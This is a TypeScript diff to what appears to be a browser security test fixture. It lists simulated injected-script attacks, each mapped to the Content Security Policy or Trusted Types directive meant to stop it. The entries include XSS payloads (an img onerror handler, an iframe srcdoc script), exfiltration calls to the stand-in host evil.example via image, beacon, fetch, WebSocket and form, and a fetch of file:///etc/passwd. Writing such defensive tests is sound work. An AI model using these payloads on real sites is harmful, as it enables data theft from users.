@@ -1,15 +1,57 @@
 /** What a script that got into the page would try, and which part of the policy stops it (W6). */
 export interface Attack {
   readonly name: string
-  readonly directive: string
+  /** Mostly one; Chromium has changed its mind about what is an address of script. */
+  readonly directives: readonly string[]
   readonly run: () => void
 }
 
-// Each runs in the page, as a script that got in would.
+const texts = 'require-trusted-types-for'
+
+/*
+ * Each runs in the page, as a script that got in would. Text that would become script is stopped before
+ * `script-src` is asked, which stands behind it as a second door.
+ */
 export const attacks: readonly Attack[] = [
   {
+    name: 'markup out of text',
+    directives: [texts],
+    run: () => {
+      document.body.innerHTML = '<b>hacked</b>'
+    }
+  },
+  {
+    name: 'markup beside an element',
+    directives: [texts],
+    run: () => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="hacked = 1">')
+  },
+  {
+    name: 'another document out of text',
+    directives: [texts],
+    run: () => void new DOMParser().parseFromString('<b>hacked</b>', 'text/html')
+  },
+  {
+    name: 'a document in a frame',
+    directives: [texts],
+    run: () => {
+      document.createElement('iframe').srcdoc = '<script>parent.hacked = 1</script>'
+    }
+  },
+  {
+    name: 'a rule of its own for texts',
+    directives: ['trusted-types'],
+    run: () =>
+      void window.trustedTypes?.createPolicy('mine', { createHTML: (text: string) => text })
+  },
+  {
+    name: 'another rule for all texts',
+    directives: ['trusted-types'],
+    run: () =>
+      void window.trustedTypes?.createPolicy('default', { createHTML: (text: string) => text })
+  },
+  {
     name: 'an inline script',
-    directive: 'script-src-elem',
+    directives: [texts],
     run: () => {
       const script = document.createElement('script')
       script.textContent = 'window.hacked = 1'
@@ -18,7 +60,7 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: 'an inline handler',
-    directive: 'script-src-attr',
+    directives: [texts],
     run: () => {
       const button = document.createElement('button')
       button.setAttribute('onclick', 'window.hacked = 1')
@@ -29,7 +71,7 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: 'a script of another host',
-    directive: 'script-src-elem',
+    directives: [texts],
     run: () => {
       const script = document.createElement('script')
       script.src = 'https://evil.example/x.js'
@@ -38,7 +80,7 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: 'eval',
-    directive: 'script-src',
+    directives: [texts],
     // What a debugger evaluates may do so; a task of the page's own may not.
     run: () =>
       void setTimeout(() => {
@@ -48,7 +90,7 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: 'a style of another host',
-    directive: 'style-src-elem',
+    directives: ['style-src-elem'],
     run: () => {
       const link = document.createElement('link')
       link.rel = 'stylesheet'
@@ -58,7 +100,7 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: 'an inline style sheet',
-    directive: 'style-src-elem',
+    directives: ['style-src-elem'],
     run: () => {
       const style = document.createElement('style')
       style.textContent = 'body { background: url(https://evil.example/x) }'
@@ -67,51 +109,39 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: 'a picture that carries data away',
-    directive: 'img-src',
+    directives: ['img-src'],
     run: () => {
       new Image().src = 'https://evil.example/?secret'
     }
   },
   {
     name: 'a fetch',
-    directive: 'connect-src',
+    directives: ['connect-src'],
     run: () => void fetch('https://evil.example/').catch(() => undefined)
   },
   {
     name: 'a fetch of a local file',
-    directive: 'connect-src',
+    directives: ['connect-src'],
     run: () => void fetch('file:///etc/passwd').catch(() => undefined)
   },
   {
     name: 'a beacon',
-    directive: 'connect-src',
+    directives: ['connect-src'],
     run: () => void navigator.sendBeacon('https://evil.example/', 'secret')
   },
   {
     name: 'a web socket',
-    directive: 'connect-src',
-    run: () => {
-      try {
-        new WebSocket('wss://evil.example/')
-      } catch {
-        // That is what the policy is for.
-      }
-    }
+    directives: ['connect-src'],
+    run: () => new WebSocket('wss://evil.example/').close()
   },
   {
     name: 'a worker',
-    directive: 'worker-src',
-    run: () => {
-      try {
-        new Worker(URL.createObjectURL(new Blob(['1'])))
-      } catch {
-        // That is what the policy is for.
-      }
-    }
+    directives: [texts],
+    run: () => new Worker(URL.createObjectURL(new Blob(['1']))).terminate()
   },
   {
     name: 'a frame',
-    directive: 'frame-src',
+    directives: ['frame-src'],
     run: () => {
       const frame = document.createElement('iframe')
       frame.src = 'https://evil.example/'
@@ -120,7 +150,7 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: 'an object',
-    directive: 'object-src',
+    directives: [texts, 'object-src'],
     run: () => {
       const object = document.createElement('object')
       object.data = 'https://evil.example/x.swf'
@@ -129,7 +159,7 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: 'another base for addresses',
-    directive: 'base-uri',
+    directives: ['base-uri'],
     run: () => {
       const base = document.createElement('base')
       base.href = 'https://evil.example/'
@@ -138,7 +168,7 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: 'a form',
-    directive: 'form-action',
+    directives: ['form-action'],
     run: () => {
       const form = document.createElement('form')
       form.action = 'https://evil.example/'
